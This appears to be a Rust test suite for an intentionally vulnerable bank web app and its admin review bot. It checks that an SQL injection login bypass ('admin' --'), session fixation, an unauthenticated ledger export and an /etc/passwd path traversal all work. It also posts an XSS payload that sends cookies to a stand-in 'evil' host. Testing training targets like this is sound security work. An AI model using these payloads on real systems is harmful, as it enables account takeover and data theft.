use admin_bot::{Reviewer, ReviewerConfig};
use bank_server::{BankConfig, BankServer, Database};
use reqwest::header::{COOKIE, LOCATION, SET_COOKIE};
use reqwest::redirect::Policy;
use std::sync::Arc;
use std::time::Duration;
use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;

// Helper to find a free port
async fn get_free_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    listener.local_addr().unwrap().port()
}

struct RunningBank {
    base: String,
    db_url: String,
    shutdown: CancellationToken,
    _dir: tempfile::TempDir,
}

async fn start_bank() -> RunningBank {
    let _ = tracing_subscriber::fmt::try_init();

    let dir = tempfile::tempdir().unwrap();
    let db_url = format!("sqlite://{}", dir.path().join("bank.db").to_string_lossy());
    let help_dir = dir.path().join("help");
    std::fs::create_dir_all(&help_dir).unwrap();
    std::fs::write(help_dir.join("welcome.txt"), "hello from help").unwrap();

    let port = get_free_port().await;
    let config = BankConfig {
        host: "127.0.0.1".to_string(),
        port,
        database_url: db_url.clone(),
        upload_dir: dir.path().join("uploads"),
        help_dir,
        ..BankConfig::default()
    };

    let shutdown = CancellationToken::new();
    let server = BankServer::new(config);
    let token = shutdown.clone();
    tokio::spawn(async move {
        if let Err(e) = server.start_with_shutdown(token).await {
            tracing::error!("Bank server failed: {}", e);
        }
    });

    let base = format!("http://127.0.0.1:{}", port);
    let client = reqwest::Client::new();
    for _ in 0..50 {
        if client.get(format!("{}/", base)).send().await.is_ok() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    RunningBank {
        base,
        db_url,
        shutdown,
        _dir: dir,
    }
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(Policy::none())
        .build()
        .unwrap()
}

#[tokio::test]
async fn test_injection_login_and_json_transfer() {
    let bank = start_bank().await;
    let client = client();

    let response = client
        .post(format!("{}/login", bank.base))
        .header(COOKIE, "session=planted")
        .form(&[("username", "admin' --"), ("password", "anything")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 303);
    assert_eq!(response.headers()[LOCATION], "/dashboard");
    let cookie = response.headers()[SET_COOKIE].to_str().unwrap().to_string();
    assert!(cookie.starts_with("session=planted;"));

    let response = client
        .post(format!("{}/funds/transfer", bank.base))
        .header(COOKIE, "session=planted")
        .json(&serde_json::json!({ "to_user_id": 2, "amount": 250, "message": "<b>gift</b>" }))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);

    // Anyone can read the full ledger
    let ledger: serde_json::Value = client
        .get(format!("{}/api/v1/transactions/export", bank.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(ledger[0]["from_user_id"], 1);
    assert_eq!(ledger[0]["to_user_id"], 2);
    assert_eq!(ledger[0]["message"], "<b>gift</b>");

    let users: serde_json::Value = client
        .get(format!("{}/api/v1/users/list", bank.base))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(users[0]["balance"], 9750.0);
    assert_eq!(users[1]["balance"], 1750.0);

    bank.shutdown.cancel();
}

#[tokio::test]
async fn test_bot_reads_tickets_posted_over_http() {
    let bank = start_bank().await;
    let client = client();

    client
        .post(format!("{}/login", bank.base))
        .header(COOKIE, "session=john-session")
        .form(&[("username", "john"), ("password", "password123")])
        .send()
        .await
        .unwrap();

    for message in ["please help", "<script>fetch('//evil/?c='+document.cookie)</script>"] {
        let response = client
            .post(format!("{}/support/messages", bank.base))
            .header(COOKIE, "session=john-session")
            .form(&[("message", message)])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), 200);
    }

    // Separate connection to the same file, as the standalone bot would have
    let db = Arc::new(Database::connect(&bank.db_url).await.unwrap());
    let reviewer = Reviewer::new(db, ReviewerConfig::immediate(Duration::from_secs(30)));
    let summary = reviewer.review_cycle().await.unwrap();

    assert_eq!(summary.reviewed.len(), 2);
    assert_eq!(summary.flagged_count(), 1);
    assert!(summary.reviewed[0].flagged);

    bank.shutdown.cancel();
}

#[tokio::test]
async fn test_help_and_unknown_paths_over_http() {
    let bank = start_bank().await;
    let client = client();

    let page = client
        .get(format!("{}/help", bank.base))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains("hello from help"));

    let response = client
        .get(format!("{}/help?topic=../../../../../../etc/passwd", bank.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);

    let response = client
        .get(format!("{}/definitely/missing", bank.base))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 404);

    bank.shutdown.cancel();
}
